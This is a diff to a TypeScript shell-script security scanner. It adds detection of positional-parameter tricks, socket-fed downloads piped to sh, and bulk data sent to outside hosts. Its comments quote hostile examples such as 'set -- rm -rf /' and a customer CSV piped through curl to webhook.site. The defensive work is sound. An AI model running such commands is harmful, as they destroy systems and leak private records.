@@ -169,7 +169,8 @@ function scanSource(source: string, scan: ShellScan): void {
     shellFallback(text, scan);
     return;
   }
-  if (text.includes('=')) collectVariables(file, scan);
+  // Assignments, and `set --` (the positional parameters `"$@"` expands to).
+  if (text.includes('=') || text.includes('set --')) collectVariables(file, scan);
   const walker = new Walker(scan);
   walker.statements(file.Stmts, emptySite());
   if (walker.interactiveInterpreter !== undefined) {
@@ -212,8 +213,30 @@ function collectVariables(file: ShellNode, scan: ShellScan): void {
       if (!value.dynamic) scan.vars.set(node.Name.Value, value.text);
       return false;
     }
+    if (node.type === 'CallExpr') positionalParameters(node.Args ?? [], evaluator, scan.vars);
     return true;
   });
+}
+
+/**
+ * `set -- rm -rf /` gives the script's positional parameters literal values, which `"$@"` expands to
+ * (one word each). An unquoted word is split at a non-blank IFS the script set (`IFS=,; set -- rm,-rf,/`).
+ */
+function positionalParameters(args: ShellNode[], evaluator: WordEvaluator, vars: Map<string, string>): void {
+  if (args.length < 3) return;
+  const literal = (node: ShellNode): string | undefined =>
+    node.Parts?.length === 1 && node.Parts[0].type === 'Lit' ? String(node.Parts[0].Value) : undefined;
+  if (literal(args[0]) !== 'set' || literal(args[1]) !== '--') return;
+  const ifs = vars.get('IFS');
+  const separator = ifs !== undefined && ifs.length === 1 && !/\s/.test(ifs) ? ifs : undefined;
+  const words: string[] = [];
+  for (const node of args.slice(2)) {
+    const word = evaluator.word(node);
+    if (word.dynamic) return;
+    if (separator !== undefined && literal(node) !== undefined) words.push(...word.text.split(separator).filter(Boolean));
+    else words.push(word.text);
+  }
+  vars.set('@', words.join(' '));
 }
 
 class Walker {
@@ -434,6 +457,8 @@ class Walker {
           scan.netOpened = true;
           scan.add('high', `shell: opens a network socket (${quote(target)})`);
         } else {
+          // `cat <&3` with fd 3 a socket prints what the network sends: a download, for the pipe that follows (`| sh`).
+          if (redirect.op === 58 || redirect.op === 56) summary.downloader = true;
           scan.add('high', `shell: raw network connection through ${quote(target)}`);
         }
         continue;
@@ -529,6 +554,15 @@ class Walker {
             .find((name) => RAW_SENDERS.has(name));
     if (dumpSender !== undefined)
       this.scan.add('critical', `shell: sends a database dump over the network (${summaries[dumper].name} | ${dumpSender})`);
+    // `pg_dump … | gzip | ssh me@home.dyndns.org 'cat > d.gz'`, `cat exports/customers.csv | curl -d @- https://webhook.site/…`:
+    // records in bulk streamed to a host nobody here owns (ssh is a backup channel, but not to such a host).
+    const source = dumpSender !== undefined ? -1 : summaries.findIndex((summary, i) => i === dumper || summary.readsBulk !== undefined);
+    const foreign = source < 0 ? undefined : summaries.slice(source + 1).find((summary) => summary.foreignHost !== undefined);
+    if (foreign !== undefined)
+      this.scan.add(
+        'critical',
+        `shell: sends ${summaries[source].readsBulk ?? 'a database dump'} to a ${foreign.foreignHost} (${summaries[source].name} | ${foreign.name})`,
+      );
     const joined = joinSummaries(summaries);
     joined.output = summaries[summaries.length - 1]?.output;
     joined.downloader = stdinFromDownload;
